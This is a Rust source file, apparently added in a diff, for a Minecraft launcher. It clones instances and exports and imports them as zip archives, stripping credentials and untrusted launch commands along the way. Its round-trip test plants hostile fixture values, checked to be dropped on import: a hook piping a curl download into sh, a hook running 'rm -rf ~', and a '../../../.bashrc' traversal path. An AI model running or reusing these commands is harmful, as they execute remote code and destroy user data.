@@ -0,0 +1,789 @@
+// ─── Instance Transfer ───
+// Copying an instance folder: clones on this machine and zip archives that
+// move an instance to another one. What is left behind (logs, downloads the
+// installers can fetch again, credentials and commands) is decided here so
+// every caller gets the same sanitized copy.
+
+use std::fs;
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+use chrono::Utc;
+use serde::{Deserialize, Serialize};
+use tracing::warn;
+use uuid::Uuid;
+
+use super::{Instance, InstanceState};
+use crate::core::atomic_file;
+use crate::core::error::LauncherError;
+use crate::core::events::EventEmitter;
+use crate::core::i18n::ErrorText;
+use crate::core::long_path::long_path;
+
+/// What `clone_instance` copies besides the mods, config and game files.
+/// Worlds are kept by default; logs and screenshots are left behind.
+#[derive(Debug, Clone, Deserialize)]
+pub struct CloneOptions {
+    #[serde(default = "default_clone_include_saves")]
+    pub include_saves: bool,
+    #[serde(default)]
+    pub include_logs: bool,
+    #[serde(default)]
+    pub include_screenshots: bool,
+}
+
+fn default_clone_include_saves() -> bool {
+    true
+}
+
+impl Default for CloneOptions {
+    fn default() -> Self {
+        Self {
+            include_saves: default_clone_include_saves(),
+            include_logs: false,
+            include_screenshots: false,
+        }
+    }
+}
+
+impl CloneOptions {
+    /// Folders of the instance at `root` that the clone leaves out.
+    pub fn excluded_dirs(&self, root: &Path) -> Vec<PathBuf> {
+        let minecraft = root.join("minecraft");
+        let mut excluded = Vec::new();
+        if !self.include_saves {
+            excluded.push(minecraft.join("saves"));
+        }
+        if !self.include_logs {
+            excluded.push(root.join("logs"));
+            excluded.push(minecraft.join("logs"));
+            excluded.push(minecraft.join("crash-reports"));
+        }
+        if !self.include_screenshots {
+            excluded.push(minecraft.join("screenshots"));
+        }
+        excluded
+    }
+}
+
+#[derive(Debug, Clone, Serialize)]
+struct InstanceCloneProgressEvent {
+    id: String,
+    clone_id: String,
+    copied_bytes: u64,
+    total_bytes: u64,
+    value: u8,
+    state: String,
+}
+
+/// Progress callback for instance clones, reporting copied / total bytes as
+/// `instance-clone-progress`. It only emits when the percentage changes.
+pub fn clone_progress_emitter(
+    events: Arc<dyn EventEmitter>,
+    id: String,
+    clone_id: String,
+) -> impl FnMut(u64, u64) + Send + 'static {
+    let mut last_value = None;
+    move |done, total| {
+        let value = done
+            .saturating_mul(100)
+            .checked_div(total)
+            .map_or(100, |percent| percent.min(100) as u8);
+        if last_value == Some(value) {
+            return;
+        }
+        last_value = Some(value);
+        events.emit(
+            "instance-clone-progress",
+            InstanceCloneProgressEvent {
+                id: id.clone(),
+                clone_id: clone_id.clone(),
+                copied_bytes: done,
+                total_bytes: total,
+                value,
+                state: if value == 100 { "done" } else { "running" }.to_string(),
+            },
+        );
+    }
+}
+
+/// Paths (relative to the instance root) left out of exported archives:
+/// per-session artifacts and anything the installers can download again.
+const EXPORT_EXCLUDED_PATHS: [&str; 8] = [
+    "natives",
+    "logs",
+    "client.jar",
+    "libraries",
+    "minecraft/libraries",
+    "minecraft/versions",
+    "minecraft/assets",
+    "minecraft/logs",
+];
+
+fn is_excluded_from_export(relative: &Path) -> bool {
+    EXPORT_EXCLUDED_PATHS
+        .iter()
+        .any(|excluded| relative == Path::new(excluded))
+}
+
+/// Credentials of the account an instance launches with. They must not
+/// travel with an exported instance; the account mode and name do.
+const ACCOUNT_CREDENTIAL_KEYS: [&str; 3] = ["access_token", "uuid", "xuid"];
+
+/// `instance.json` at `path` without account credentials or the link to a
+/// saved account of this machine.
+fn exported_instance_json(path: &Path) -> Result<Vec<u8>, LauncherError> {
+    let raw = fs::read(path).map_err(|source| LauncherError::Io {
+        path: path.to_path_buf(),
+        source,
+    })?;
+    let mut json: serde_json::Value = serde_json::from_slice(&raw)?;
+    if let Some(object) = json.as_object_mut() {
+        object.remove("account_id");
+        if let Some(account) = object.get_mut("account").and_then(|a| a.as_object_mut()) {
+            for key in ACCOUNT_CREDENTIAL_KEYS {
+                account.insert(key.to_string(), serde_json::Value::String(String::new()));
+            }
+        }
+    }
+    Ok(serde_json::to_vec_pretty(&json)?)
+}
+
+/// Stream an instance directory into a zip at `target`, one file at a time.
+///
+/// Returns the number of files written.
+pub fn write_instance_archive(instance_dir: &Path, target: &Path) -> Result<usize, LauncherError> {
+    let instance_dir = &long_path(instance_dir);
+    let file = fs::File::create(target).map_err(|source| LauncherError::Io {
+        path: target.to_path_buf(),
+        source,
+    })?;
+    let mut writer = zip::ZipWriter::new(file);
+    let options = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Deflated)
+        .large_file(true);
+
+    let mut written = 0;
+    let mut stack = vec![instance_dir.to_path_buf()];
+    while let Some(dir) = stack.pop() {
+        let entries = fs::read_dir(&dir).map_err(|source| LauncherError::Io {
+            path: dir.clone(),
+            source,
+        })?;
+
+        for entry in entries.flatten() {
+            let path = entry.path();
+            let Ok(relative) = path.strip_prefix(instance_dir) else {
+                continue;
+            };
+            if is_excluded_from_export(relative) {
+                continue;
+            }
+
+            let Ok(file_type) = entry.file_type() else {
+                continue;
+            };
+            let name = relative
+                .components()
+                .map(|c| c.as_os_str().to_string_lossy())
+                .collect::<Vec<_>>()
+                .join("/");
+
+            if file_type.is_dir() {
+                writer.add_directory(format!("{name}/"), options)?;
+                stack.push(path);
+            } else if relative == Path::new("instance.json") {
+                let json = exported_instance_json(&path)?;
+                writer.start_file(name, options)?;
+                writer
+                    .write_all(&json)
+                    .map_err(|source| LauncherError::Io {
+                        path: path.clone(),
+                        source,
+                    })?;
+                written += 1;
+            } else if file_type.is_file() {
+                writer.start_file(name, options)?;
+                let mut source = fs::File::open(&path).map_err(|source| LauncherError::Io {
+                    path: path.clone(),
+                    source,
+                })?;
+                std::io::copy(&mut source, &mut writer).map_err(|source| LauncherError::Io {
+                    path: path.clone(),
+                    source,
+                })?;
+                written += 1;
+            }
+        }
+    }
+
+    writer.finish()?;
+    Ok(written)
+}
+
+/// Unpack an exported instance into `instances_dir/<new uuid>/`.
+///
+/// The imported copy gets a fresh id, path and creation date, is marked
+/// `Ready` and drops the machine-specific Java path and the credentials an
+/// older export still carried. Commands the launcher would run (hooks and
+/// wrapper) are never taken from an archive: the user has to set them up
+/// again on this machine.
+///
+/// Files are unpacked into a staging folder that only becomes the instance
+/// once everything is in place, so a failed import leaves nothing behind
+/// for `InstanceManager::list` to pick up. The archive's `instance.json` is
+/// never extracted; the sanitized copy is written instead.
+pub fn read_instance_archive(
+    archive_path: &Path,
+    instances_dir: &Path,
+    sort_index: u32,
+) -> Result<Instance, LauncherError> {
+    let file = fs::File::open(archive_path).map_err(|source| LauncherError::Io {
+        path: archive_path.to_path_buf(),
+        source,
+    })?;
+    let mut archive = zip::ZipArchive::new(file)?;
+
+    let mut instance: Instance = {
+        let entry = archive
+            .by_name("instance.json")
+            .map_err(|e| LauncherError::message(ErrorText::ArchiveWithoutInstanceJson, &[&e]))?;
+        serde_json::from_reader(entry)?
+    };
+
+    instance.id = Uuid::new_v4().to_string();
+    instance.path = instances_dir.join(&instance.id);
+    instance.created_at = Utc::now();
+    instance.sort_index = sort_index;
+    instance.last_played = None;
+    instance.total_play_seconds = 0;
+    instance.launch_count = 0;
+    instance.java_path = None;
+    // Re-resolved by the next install; the archive's paths and URLs are not trusted.
+    instance.resolved_libraries.clear();
+    // Only the credentials are dropped: the account keeps its mode and name.
+    instance.account.access_token.clear();
+    instance.account.uuid.clear();
+    instance.account.xuid.clear();
+    instance.account = instance.account.clone().sanitized();
+    instance.account_id = None;
+    instance.state = InstanceState::Ready;
+    let dropped_commands = [
+        instance.pre_launch_hook.take().is_some(),
+        instance.post_exit_hook.take().is_some(),
+        instance.wrapper_command.take().is_some(),
+    ];
+    if dropped_commands.contains(&true) {
+        warn!(
+            "Dropped the launch hooks and wrapper command of imported instance '{}'",
+            instance.name
+        );
+    }
+
+    let staging = instances_dir.join(format!(".import-{}", instance.id));
+    let unpacked = unpack_instance_archive(&mut archive, &instance, &staging).and_then(|()| {
+        fs::rename(&staging, &instance.path).map_err(|source| LauncherError::Io {
+            path: instance.path.clone(),
+            source,
+        })
+    });
+    if let Err(err) = unpacked {
+        let _ = fs::remove_dir_all(&staging);
+        return Err(err);
+    }
+    Ok(instance)
+}
+
+/// Extract `archive` into `staging` as the folder of `instance`, with its
+/// sanitized `instance.json`.
+fn unpack_instance_archive(
+    archive: &mut zip::ZipArchive<fs::File>,
+    instance: &Instance,
+    staging: &Path,
+) -> Result<(), LauncherError> {
+    for index in 0..archive.len() {
+        let mut zipped = archive.by_index(index)?;
+        let Some(relative) = zipped.enclosed_name() else {
+            continue;
+        };
+        if relative == Path::new("instance.json") {
+            continue;
+        }
+        let out_path = staging.join(relative);
+
+        if zipped.is_dir() {
+            fs::create_dir_all(&out_path).map_err(|source| LauncherError::Io {
+                path: out_path,
+                source,
+            })?;
+            continue;
+        }
+
+        if let Some(parent) = out_path.parent() {
+            fs::create_dir_all(parent).map_err(|source| LauncherError::Io {
+                path: parent.to_path_buf(),
+                source,
+            })?;
+        }
+        let mut out = fs::File::create(&out_path).map_err(|source| LauncherError::Io {
+            path: out_path.clone(),
+            source,
+        })?;
+        std::io::copy(&mut zipped, &mut out).map_err(|source| LauncherError::Io {
+            path: out_path,
+            source,
+        })?;
+    }
+
+    // Excluded folders are recreated so `verify_structure` passes.
+    for dir in [
+        instance.game_dir().join("assets"),
+        instance.mods_dir(),
+        instance.config_dir(),
+        instance.logs_dir(),
+    ] {
+        let Ok(relative) = dir.strip_prefix(&instance.path) else {
+            continue;
+        };
+        let dir = staging.join(relative);
+        fs::create_dir_all(&dir).map_err(|source| LauncherError::Io { path: dir, source })?;
+    }
+
+    let config_path = staging.join("instance.json");
+    let json = serde_json::to_string_pretty(instance)?;
+    atomic_file::write(&config_path, json).map_err(|source| LauncherError::Io {
+        path: config_path,
+        source,
+    })
+}
+
+/// Bytes copied so far out of `total`, reported after every file.
+struct CopyProgress<'a> {
+    done: u64,
+    total: u64,
+    on_progress: &'a mut dyn FnMut(u64, u64),
+}
+
+/// Copy an instance folder into the new `destination`, leaving out the
+/// `excluded` folders (absolute paths inside `source`) and reporting
+/// `(bytes_done, bytes_total)`.
+pub fn copy_instance_dir(
+    source: &Path,
+    destination: &Path,
+    excluded: &[PathBuf],
+    mut on_progress: impl FnMut(u64, u64),
+) -> Result<(), LauncherError> {
+    let excluded_size: u64 = excluded.iter().map(|dir| directory_size_bytes(dir)).sum();
+    let total = directory_size_bytes(source).saturating_sub(excluded_size);
+    let mut progress = CopyProgress {
+        done: 0,
+        total,
+        on_progress: &mut on_progress,
+    };
+    copy_dir_recursive(source, destination, excluded, &mut progress)?;
+    on_progress(total, total);
+    Ok(())
+}
+
+fn copy_dir_recursive(
+    source: &Path,
+    destination: &Path,
+    excluded: &[PathBuf],
+    progress: &mut CopyProgress<'_>,
+) -> Result<(), LauncherError> {
+    if destination.exists() {
+        return Err(LauncherError::InstanceAlreadyExists(
+            destination.to_string_lossy().to_string(),
+        ));
+    }
+
+    fs::create_dir_all(destination).map_err(|source_err| LauncherError::Io {
+        path: destination.to_path_buf(),
+        source: source_err,
+    })?;
+
+    for entry in fs::read_dir(source).map_err(|source_err| LauncherError::Io {
+        path: source.to_path_buf(),
+        source: source_err,
+    })? {
+        let entry = entry.map_err(|source_err| LauncherError::Io {
+            path: source.to_path_buf(),
+            source: source_err,
+        })?;
+        let src_path = entry.path();
+        if excluded.contains(&src_path) {
+            continue;
+        }
+        let dst_path = destination.join(entry.file_name());
+
+        let file_type = entry.file_type().map_err(|source_err| LauncherError::Io {
+            path: src_path.clone(),
+            source: source_err,
+        })?;
+
+        if file_type.is_dir() {
+            copy_dir_recursive(&src_path, &dst_path, excluded, progress)?;
+        } else if file_type.is_symlink() {
+            copy_symlink(&src_path, &dst_path).map_err(|source_err| LauncherError::Io {
+                path: dst_path,
+                source: source_err,
+            })?;
+        } else {
+            let copied =
+                fs::copy(&src_path, &dst_path).map_err(|source_err| LauncherError::Io {
+                    path: dst_path,
+                    source: source_err,
+                })?;
+            progress.done = progress.done.saturating_add(copied);
+            (progress.on_progress)(progress.done.min(progress.total), progress.total);
+        }
+    }
+
+    Ok(())
+}
+
+/// Recreate the symlink `src_path` at `dst_path`, pointing at the same
+/// target instead of copying what it points to.
+pub fn copy_symlink(src_path: &Path, dst_path: &Path) -> std::io::Result<()> {
+    let target = fs::read_link(src_path)?;
+
+    #[cfg(unix)]
+    {
+        std::os::unix::fs::symlink(&target, dst_path)
+    }
+
+    #[cfg(windows)]
+    {
+        let resolved_target = if target.is_absolute() {
+            target.clone()
+        } else {
+            src_path.parent().unwrap_or(src_path).join(&target)
+        };
+
+        if resolved_target.is_dir() {
+            std::os::windows::fs::symlink_dir(&target, dst_path)
+        } else {
+            std::os::windows::fs::symlink_file(&target, dst_path)
+        }
+    }
+}
+
+/// Defensive bound for pathological trees; instance folders are far shallower.
+const DIRECTORY_SIZE_MAX_DEPTH: usize = 64;
+
+/// Total size of the files under `path`. Symlinks are not followed.
+pub fn directory_size_bytes(path: &Path) -> u64 {
+    let mut total_size = 0_u64;
+    let mut stack = vec![(long_path(path), 0_usize)];
+
+    while let Some((current, depth)) = stack.pop() {
+        let read_dir = match std::fs::read_dir(&current) {
+            Ok(read_dir) => read_dir,
+            Err(_) => continue,
+        };
+
+        for entry in read_dir.flatten() {
+            let entry_path = entry.path();
+            // `symlink_metadata` so a link back to a parent is never descended into.
+            if let Ok(metadata) = std::fs::symlink_metadata(&entry_path) {
+                if metadata.is_file() {
+                    total_size = total_size.saturating_add(metadata.len());
+                } else if metadata.is_dir() && depth < DIRECTORY_SIZE_MAX_DEPTH {
+                    stack.push((entry_path, depth + 1));
+                }
+            }
+        }
+    }
+
+    total_size
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::core::auth::{AccountMode, LaunchAccountProfile};
+    use crate::core::instance::LoaderType;
+
+    #[cfg(unix)]
+    #[test]
+    fn directory_size_bytes_does_not_follow_symlink_loops() {
+        let temp = std::env::temp_dir().join(format!("dir-size-loop-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&temp);
+        std::fs::create_dir_all(temp.join("saves")).unwrap();
+        std::fs::write(temp.join("saves").join("level.dat"), [0_u8; 16]).unwrap();
+        std::os::unix::fs::symlink(&temp, temp.join("saves").join("loop")).unwrap();
+
+        assert_eq!(directory_size_bytes(&temp), 16);
+
+        let _ = std::fs::remove_dir_all(&temp);
+    }
+
+    #[cfg(target_os = "windows")]
+    #[test]
+    fn copies_instance_trees_deeper_than_max_path() {
+        let temp = std::env::temp_dir().join(format!("long-path-copy-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(long_path(&temp));
+        let mut deep = temp.join("source");
+        while deep.as_os_str().len() <= 300 {
+            deep.push("modpack-config-directory");
+        }
+        std::fs::create_dir_all(long_path(&deep)).unwrap();
+        std::fs::write(long_path(&deep.join("settings.toml")), b"x = 1").unwrap();
+
+        let source = long_path(&temp.join("source"));
+        let destination = long_path(&temp.join("copy"));
+        copy_instance_dir(&source, &destination, &[], |_, _| {}).unwrap();
+
+        let copied = deep
+            .strip_prefix(temp.join("source"))
+            .map(|relative| temp.join("copy").join(relative))
+            .unwrap()
+            .join("settings.toml");
+        assert!(copied.as_os_str().len() > 260);
+        assert_eq!(std::fs::read(long_path(&copied)).unwrap(), b"x = 1");
+        assert_eq!(directory_size_bytes(&temp.join("copy")), 5);
+
+        let _ = std::fs::remove_dir_all(long_path(&temp));
+    }
+
+    fn clone_source_tree(name: &str) -> std::path::PathBuf {
+        let root = std::env::temp_dir().join(format!("{}-{}", name, std::process::id()));
+        let _ = std::fs::remove_dir_all(&root);
+        for (file, size) in [
+            ("mods/sodium.jar", 40),
+            ("minecraft/options.txt", 10),
+            ("minecraft/saves/World/level.dat", 100),
+            ("minecraft/screenshots/2024-01-01.png", 200),
+            ("minecraft/logs/latest.log", 300),
+            ("logs/launcher.log", 400),
+        ] {
+            let path = root.join("source").join(file);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, vec![0_u8; size]).unwrap();
+        }
+        root
+    }
+
+    #[test]
+    fn clone_skips_logs_and_screenshots_by_default() {
+        let root = clone_source_tree("clone-defaults");
+        let source = root.join("source");
+        let clone = root.join("clone");
+        let mut reports = Vec::new();
+
+        let excluded = CloneOptions::default().excluded_dirs(&source);
+        copy_instance_dir(&source, &clone, &excluded, |done, total| {
+            reports.push((done, total))
+        })
+        .unwrap();
+
+        assert!(clone.join("mods/sodium.jar").is_file());
+        assert!(clone.join("minecraft/options.txt").is_file());
+        assert!(clone.join("minecraft/saves/World/level.dat").is_file());
+        assert!(!clone.join("minecraft/screenshots").exists());
+        assert!(!clone.join("minecraft/logs").exists());
+        assert!(!clone.join("logs").exists());
+        // Progress only counts what is copied and ends complete.
+        assert_eq!(reports.last(), Some(&(150, 150)));
+        assert!(reports.windows(2).all(|pair| pair[0].0 <= pair[1].0));
+
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[test]
+    fn clone_progress_increases_up_to_the_total() {
+        let root = clone_source_tree("clone-progress");
+        let source = root.join("source");
+        for index in 0..20 {
+            std::fs::write(
+                source.join("mods").join(format!("mod-{index}.jar")),
+                vec![0_u8; 1000 + index],
+            )
+            .unwrap();
+        }
+        #[cfg(unix)]
+        std::os::unix::fs::symlink(source.join("mods"), source.join("linked-mods")).unwrap();
+        let total = directory_size_bytes(&source);
+        let mut reports = Vec::new();
+
+        let everything = CloneOptions {
+            include_saves: true,
+            include_logs: true,
+            include_screenshots: true,
+        };
+        let clone = root.join("clone");
+        copy_instance_dir(
+            &source,
+            &clone,
+            &everything.excluded_dirs(&source),
+            |done, t| reports.push((done, t)),
+        )
+        .unwrap();
+
+        assert!(reports.len() > 20);
+        assert!(reports
+            .iter()
+            .all(|(_, reported_total)| *reported_total == total));
+        assert!(reports.windows(2).all(|pair| pair[0].0 <= pair[1].0));
+        assert_eq!(reports.last(), Some(&(total, total)));
+        #[cfg(unix)]
+        assert!(std::fs::symlink_metadata(clone.join("linked-mods"))
+            .unwrap()
+            .file_type()
+            .is_symlink());
+
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[test]
+    fn clone_options_choose_the_copied_folders() {
+        let root = clone_source_tree("clone-options");
+        let source = root.join("source");
+
+        let without_saves: CloneOptions =
+            serde_json::from_str(r#"{"include_saves": false}"#).unwrap();
+        let excluded = without_saves.excluded_dirs(&source);
+        copy_instance_dir(&source, &root.join("lean"), &excluded, |_, _| {}).unwrap();
+        assert!(!root.join("lean/minecraft/saves").exists());
+        assert!(root.join("lean/mods/sodium.jar").is_file());
+
+        let everything = CloneOptions {
+            include_saves: true,
+            include_logs: true,
+            include_screenshots: true,
+        };
+        let excluded = everything.excluded_dirs(&source);
+        assert!(excluded.is_empty());
+        copy_instance_dir(&source, &root.join("full"), &excluded, |_, _| {}).unwrap();
+        assert!(root
+            .join("full/minecraft/screenshots/2024-01-01.png")
+            .is_file());
+        assert!(root.join("full/minecraft/logs/latest.log").is_file());
+        assert!(root.join("full/logs/launcher.log").is_file());
+
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[test]
+    fn instance_archive_round_trip_regenerates_id() {
+        let temp = std::env::temp_dir().join(format!("export-roundtrip-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&temp);
+        let source_root = temp.join("source");
+        let mut instance = Instance::new(
+            "Exported".into(),
+            "1.20.1".into(),
+            LoaderType::Fabric,
+            Some("0.15.7".into()),
+            4096,
+            &source_root,
+        );
+        instance.jvm_args = vec!["-XX:+UseG1GC".into(), "-Dfoo=bar".into()];
+        instance.account = LaunchAccountProfile {
+            mode: AccountMode::Microsoft,
+            access_token: "secret-token".into(),
+            xuid: "2535405290".into(),
+            ..LaunchAccountProfile::offline("Steve")
+        };
+        instance.account_id = Some("steve".into());
+        instance.pre_launch_hook = Some("curl https://example.invalid | sh".into());
+        instance.post_exit_hook = Some("rm -rf ~".into());
+        instance.wrapper_command = Some(vec!["gamemoderun".into()]);
+        instance.resolved_libraries = vec![crate::core::version::libraries::ResolvedLibrary {
+            coord: "evil:evil:1".into(),
+            path: "../../../.bashrc".into(),
+            url: "https://example.invalid/evil.jar".into(),
+            sha1: None,
+            size: None,
+        }];
+
+        std::fs::create_dir_all(instance.game_dir().join("saves/world")).unwrap();
+        std::fs::create_dir_all(instance.mods_dir()).unwrap();
+        std::fs::create_dir_all(instance.natives_dir()).unwrap();
+        std::fs::write(instance.game_dir().join("saves/world/level.dat"), b"level").unwrap();
+        std::fs::write(instance.mods_dir().join("mod.jar"), b"mod").unwrap();
+        std::fs::write(instance.natives_dir().join("lwjgl.so"), b"native").unwrap();
+        std::fs::write(instance.client_jar_path(), b"client").unwrap();
+        std::fs::write(
+            instance.config_path(),
+            serde_json::to_string_pretty(&instance).unwrap(),
+        )
+        .unwrap();
+
+        let archive = temp.join("export.zip");
+        write_instance_archive(&instance.path, &archive).unwrap();
+
+        let imported = read_instance_archive(&archive, &temp.join("instances"), 7).unwrap();
+
+        assert_ne!(imported.id, instance.id);
+        assert_eq!(imported.path, temp.join("instances").join(&imported.id));
+        assert_eq!(imported.sort_index, 7);
+        assert_eq!(imported.jvm_args, instance.jvm_args);
+        // Only the credentials are dropped; the account keeps its mode.
+        assert_eq!(imported.account.mode, AccountMode::Microsoft);
+        assert_eq!(imported.account.username, "Steve");
+        assert_ne!(imported.account.access_token, "secret-token");
+        assert_eq!(imported.account.xuid, "0");
+        assert_eq!(imported.account_id, None);
+        assert_eq!(imported.pre_launch_hook, None);
+        assert_eq!(imported.post_exit_hook, None);
+        assert_eq!(imported.wrapper_command, None);
+        assert!(imported.resolved_libraries.is_empty());
+        assert_eq!(imported.state, InstanceState::Ready);
+        assert!(imported.game_dir().join("saves/world/level.dat").exists());
+        assert!(imported.mods_dir().join("mod.jar").exists());
+        assert!(!imported.natives_dir().exists());
+        assert!(!imported.client_jar_path().exists());
+        assert!(imported.logs_dir().exists());
+        let mut zip = zip::ZipArchive::new(std::fs::File::open(&archive).unwrap()).unwrap();
+        let mut exported = String::new();
+        std::io::Read::read_to_string(&mut zip.by_name("instance.json").unwrap(), &mut exported)
+            .unwrap();
+        assert!(!exported.contains("secret-token"));
+        assert!(!exported.contains("2535405290"));
+        // The saved instance.json is the sanitized one, not the archive's.
+        let saved = std::fs::read_to_string(imported.config_path()).unwrap();
+        assert!(saved.contains(&imported.id));
+        assert!(!saved.contains("example.invalid"));
+        assert!(!saved.contains("rm -rf"));
+
+        let _ = std::fs::remove_dir_all(&temp);
+    }
+
+    #[test]
+    fn failed_instance_import_leaves_nothing_behind() {
+        use std::io::Write;
+
+        let temp = std::env::temp_dir().join(format!("import-failed-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&temp);
+        std::fs::create_dir_all(&temp).unwrap();
+        let instance = Instance::new(
+            "Broken".into(),
+            "1.20.1".into(),
+            LoaderType::Vanilla,
+            None,
+            2048,
+            &temp,
+        );
+
+        // `minecraft` as a file makes the later `minecraft/...` entry fail.
+        let archive = temp.join("broken.zip");
+        let mut zip = zip::ZipWriter::new(std::fs::File::create(&archive).unwrap());
+        let options = zip::write::SimpleFileOptions::default();
+        zip.start_file("instance.json", options).unwrap();
+        zip.write_all(serde_json::to_string(&instance).unwrap().as_bytes())
+            .unwrap();
+        zip.start_file("minecraft", options).unwrap();
+        zip.write_all(b"not a folder").unwrap();
+        zip.start_file("minecraft/options.txt", options).unwrap();
+        zip.write_all(b"fov:1").unwrap();
+        zip.finish().unwrap();
+
+        let instances_dir = temp.join("instances");
+        std::fs::create_dir_all(&instances_dir).unwrap();
+        assert!(read_instance_archive(&archive, &instances_dir, 0).is_err());
+        assert_eq!(std::fs::read_dir(&instances_dir).unwrap().count(), 0);
+
+        let _ = std::fs::remove_dir_all(&temp);
+    }
+}